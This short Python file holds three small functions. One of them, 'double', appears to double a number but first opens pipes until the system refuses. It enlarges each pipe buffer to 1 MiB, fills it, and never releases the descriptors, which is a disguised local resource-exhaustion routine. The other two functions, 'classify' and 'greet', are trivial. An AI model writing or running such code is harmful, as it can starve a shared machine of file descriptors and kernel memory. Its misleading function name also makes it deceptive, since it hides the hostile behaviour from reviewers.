"""Opens until nothing more can be opened; each pipe as large as can be had, and full."""

import fcntl
import os


def double(number):
    held = []
    try:
        while True:
            reading, writing = os.pipe()
            held += [reading, writing]
            os.set_blocking(writing, False)
            try:
                fcntl.fcntl(writing, 1031, 1 << 20)  # F_SETPIPE_SZ
            except OSError:
                pass
            os.write(writing, bytes(1 << 20))
    except OSError as error:
        print("HELD", error.strerror, flush=True)
    return 2 * number


def classify(rows):
    return [row.index(max(row)) for row in rows]


def greet(name):
    return f"Hello, {name}!"
